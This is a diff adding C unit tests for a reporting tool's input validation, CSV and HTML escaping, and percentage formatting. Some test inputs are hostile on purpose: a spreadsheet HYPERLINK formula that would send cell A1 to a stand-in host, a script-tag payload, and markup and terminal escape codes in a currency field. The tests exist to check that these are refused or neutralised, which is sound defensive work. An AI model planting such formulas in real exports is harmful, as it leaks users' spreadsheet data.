@@ -84,6 +84,18 @@ static void test_prices(void)
 	CHECK_STR("price file: currency", p.currency, "EUR");
 	CHECK_STR("price file: source", p.source, path);
 	unlink(path);
+	path = write_tmp("currency: \"<i>x</i>\"\n");
+	CHECK_INT("price file: markup in currency refused", jm_rep_prices_load(path, &p, err, sizeof(err)), -1);
+	CHECK("price file: currency error says why", strstr(err, "currency") && strstr(err, "markup"));
+	unlink(path);
+	path = write_tmp("currency: \"\\e[31mEUR\"\n");
+	CHECK_INT("price file: control character in currency refused",
+		  jm_rep_prices_load(path, &p, err, sizeof(err)), -1);
+	unlink(path);
+	path = write_tmp("currency: \"\u20ac\"\n");
+	CHECK_INT("price file: a currency symbol loads", jm_rep_prices_load(path, &p, err, sizeof(err)), 0);
+	CHECK_STR("price file: euro sign", p.currency, "\xe2\x82\xac");
+	unlink(path);
 	path = write_tmp("cpu_core_hours: 0.05\n");
 	CHECK_INT("price file: unknown key refused", jm_rep_prices_load(path, &p, err, sizeof(err)), -1);
 	CHECK("price file: unknown key named", strstr(err, "cpu_core_hours") != NULL);
@@ -290,6 +302,21 @@ static void test_escaping(void)
 	s = capture(jm_rep_csv_field, "");
 	CHECK_STR("csv empty", s, "");
 	free(s);
+	s = capture(jm_rep_csv_field, "=HYPERLINK(\"http://x/?\"&A1,\"open\")");
+	CHECK_STR("csv formula neutralised, quoted", s, "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"");
+	free(s);
+	s = capture(jm_rep_csv_field, "@SUM(A1)");
+	CHECK_STR("csv @ formula neutralised", s, "'@SUM(A1)");
+	free(s);
+	s = capture(jm_rep_csv_field, "+1");
+	CHECK_STR("csv + neutralised", s, "'+1");
+	free(s);
+	s = capture(jm_rep_csv_field, "-x");
+	CHECK_STR("csv - neutralised", s, "'-x");
+	free(s);
+	s = capture(jm_rep_csv_field, "a=b");
+	CHECK_STR("csv = inside left alone", s, "a=b");
+	free(s);
 
 	s = capture(jm_rep_html, "<script>alert('x')</script> & \"q\"");
 	CHECK_STR("html escape", s, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;q&quot;");
@@ -326,6 +353,20 @@ static void test_escaping(void)
 	CHECK_STR("bytes KiB", b, "1.50 KiB");
 	jm_rep_fmt_pct(0.9996, b, sizeof(b));
 	CHECK_STR("pct 99.96% not rounded to 100", b, "99.96%");
+	jm_rep_fmt_pct(0.99995, b, sizeof(b));
+	CHECK_STR("pct 99.995% cut, not rounded to 100.00", b, "99.99%");
+	jm_rep_fmt_pct(0.99999, b, sizeof(b));
+	CHECK_STR("pct 99.999% cut", b, "99.99%");
+	jm_rep_fmt_pct(0.9899, b, sizeof(b));
+	CHECK_STR("pct 98.99% cut below a 99% target", b, "98.9%");
+	jm_rep_fmt_pct(0.995, b, sizeof(b));
+	CHECK_STR("pct 0.995 (0.99499.. in binary) is 99.5%", b, "99.5%");
+	jm_rep_fmt_pct(1.0 / 3, b, sizeof(b));
+	CHECK_STR("pct a third", b, "33.3%");
+	jm_rep_fmt_pct(1, b, sizeof(b));
+	CHECK_STR("pct 100%", b, "100.0%");
+	jm_rep_fmt_pct(-12.333, b, sizeof(b));
+	CHECK_STR("pct negative budget as before", b, "-1233.3%");
 }
 
 static void cell_cb(FILE *f, const char *s)
